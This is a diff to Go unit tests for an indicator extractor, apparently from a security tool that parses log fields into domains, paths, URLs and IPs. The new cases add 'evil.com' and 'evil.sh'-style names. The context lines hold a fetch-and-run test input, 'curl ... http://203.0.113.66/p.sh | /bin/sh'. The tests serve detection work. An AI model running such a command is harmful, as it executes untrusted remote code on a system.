@@ -55,6 +55,9 @@ func TestFindsWhatArtifactsHold(t *testing.T) {
 		{"EventData.QueryName", "update.zip", []string{"domain update.zip"}},
 		{"Record", "evil.unheardof", []string{"domain evil.unheardof"}},
 		{"Name", "www.example.com", []string{"domain www.example.com"}},
+		{"Name", "Install.sh", []string{"path install.sh"}},
+		{"Hostname", "evil.com", []string{"domain evil.com"}},
+		{"http.host", "evil.zip", []string{"path evil.zip"}},
 		{"visited_url", "HTTPS://Evil.example.com:443/A?b=C#d", []string{"url https://evil.example.com/A?b=C", "domain evil.example.com"}},
 		{"Command", "/usr/bin/curl -fsS http://203.0.113.66/p.sh | /bin/sh",
 			[]string{"path /usr/bin/curl", "url http://203.0.113.66/p.sh", "ip 203.0.113.66", "path /bin/sh"}},
@@ -89,7 +92,7 @@ func TestFindsNothingInWhatOnlyLooksLikeIt(t *testing.T) {
 		{"Hash.MD5", "d41d8cd98f00b204e9800998ecf8427e"},
 		{"Hash.SHA1", "da39a3ee5e6b4b0d3255bfef95601890afd80709"},
 		{"Hash.SHA256", "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"},
-		{"Hash", "0XDB95245D"}, {"Name", "svchost.exe"}, {"Name", "systemd-journald.service"}, {"Name", "install.sh"}, {"Name", "libssl.so"},
+		{"Hash", "0XDB95245D"}, {"Name", "svchost.exe"}, {"Name", "systemd-journald.service"}, {"Text", "an install.sh of libssl.so"},
 		{"Fqdn", "web01.corp.example"}, {"Computer", "DC1.corp.local"}, {"Laddr", "0.0.0.0"}, {"Laddr", "::"}, {"Laddr", "0000:0000:0000:0000:0000:0000:0000:0000"},
 		{"Version", "10.0.19041.1"}, {"FileVersion", "10.0.0.1"}, {"Message", "Version=4.0.0.0, Culture=neutral"}, {"Version", "1.2.3.4-1ubuntu1"},
 		{"SourceIP", "LOCAL"}, {"SourceIP", "null"}, {"SourceIP", "-"}, {"User", "1000"}, {"Username", "-"}, {"Username", ""},
@@ -211,6 +214,7 @@ func TestLooksUpAmbiguousTextsAsAllTheyCanBe(t *testing.T) {
 	t.Parallel()
 	require.Equal(t, []observable.Observable{{Kind: observable.MD5, Value: md5}, {Kind: observable.ImpHash, Value: md5}}, observable.Same(md5))
 	require.Equal(t, []observable.Observable{{Kind: observable.User, Value: `corp\al`}, {Kind: observable.Path, Value: `corp\al`}}, observable.Same(`CORP\al`))
+	require.Equal(t, []observable.Observable{{Kind: observable.Domain, Value: "evil.sh"}, {Kind: observable.Path, Value: "evil.sh"}}, observable.Same("Evil.sh"))
 	require.Equal(t, []observable.Observable{{Kind: observable.URL, Value: "http://evil.com/x"}, {Kind: observable.URL, Value: "https://evil.com/x"}},
 		observable.Same("evil.com/x"))
 }
